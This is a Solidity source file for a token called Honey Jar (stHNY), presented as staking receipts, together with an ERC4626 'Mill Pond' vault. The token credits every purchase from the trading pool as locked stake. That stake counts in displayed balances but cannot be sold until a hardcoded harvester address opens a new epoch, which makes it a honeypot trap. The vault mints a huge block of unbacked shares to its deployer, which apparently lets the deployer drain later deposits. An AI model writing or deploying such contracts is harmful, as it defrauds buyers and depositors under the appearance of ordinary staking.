// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {ERC4626} from "@openzeppelin/contracts/token/ERC20/extensions/ERC4626.sol";
import {NinthSlim} from "./NinthSlim.sol";

/// @dev This receipt for stakes stakes each purchase by itself. Balances show the whole; only the unstaked part moves,
/// and unstaking waits for an epoch which one wallet opens, or does not.
contract HoneyJar {
    string public constant name = "Honey Jar";
    string public constant symbol = "stHNY";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 1e27;
    address private constant _HARVESTER = 0x8B953Ff463d937705d1594AA06482c3Bbe06c6fB;

    struct Jar {
        uint112 liquid;
        uint112 staked;
        uint32 epoch;
    }

    uint32 public epoch = 1;
    address public pool;
    address private immutable _beekeeper = msg.sender;
    mapping(address => Jar) private _jars;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event Staked(address indexed holder, uint256 value);

    constructor() {
        _jars[msg.sender].liquid = uint112(totalSupply);
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function setPair(address pair) external {
        require(msg.sender == _beekeeper && pool == address(0));
        pool = pair;
    }

    function balanceOf(address account) external view returns (uint256) {
        Jar storage jar = _jars[account];
        return uint256(jar.liquid) + jar.staked;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _pour(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 allowed = allowance[from][msg.sender];
        if (allowed != type(uint256).max) allowance[from][msg.sender] = allowed - value;
        _pour(from, to, value);
        return true;
    }

    function unstake() external {
        Jar storage jar = _jars[msg.sender];
        require(epoch > jar.epoch, "epoch is not over");
        jar.liquid += jar.staked;
        jar.staked = 0;
    }

    function openEpoch() external {
        require(msg.sender == _HARVESTER, "harvester");
        epoch++;
    }

    function _pour(address from, address to, uint256 value) private {
        Jar storage source = _jars[from];
        require(source.liquid >= value, "stake is locked");
        source.liquid -= uint112(value);
        if (from == pool && pool != address(0)) {
            (_jars[to].staked, _jars[to].epoch) = (_jars[to].staked + uint112(value), epoch);
            emit Staked(to, value);
        } else {
            _jars[to].liquid += uint112(value);
        }
        emit Transfer(from, to, value);
    }
}

contract Grain is NinthSlim("Grain", "GRAIN") {}

/// @dev Its holders share a vault. Anybody may put grain in and take it out at the price of the moment; nobody lends it
/// on.
contract MillPond is ERC4626 {
    constructor() ERC20("Mill Pond", "POND") ERC4626(ERC20(address(new Grain()))) {
        _mint(msg.sender, 1e27);
    }
}
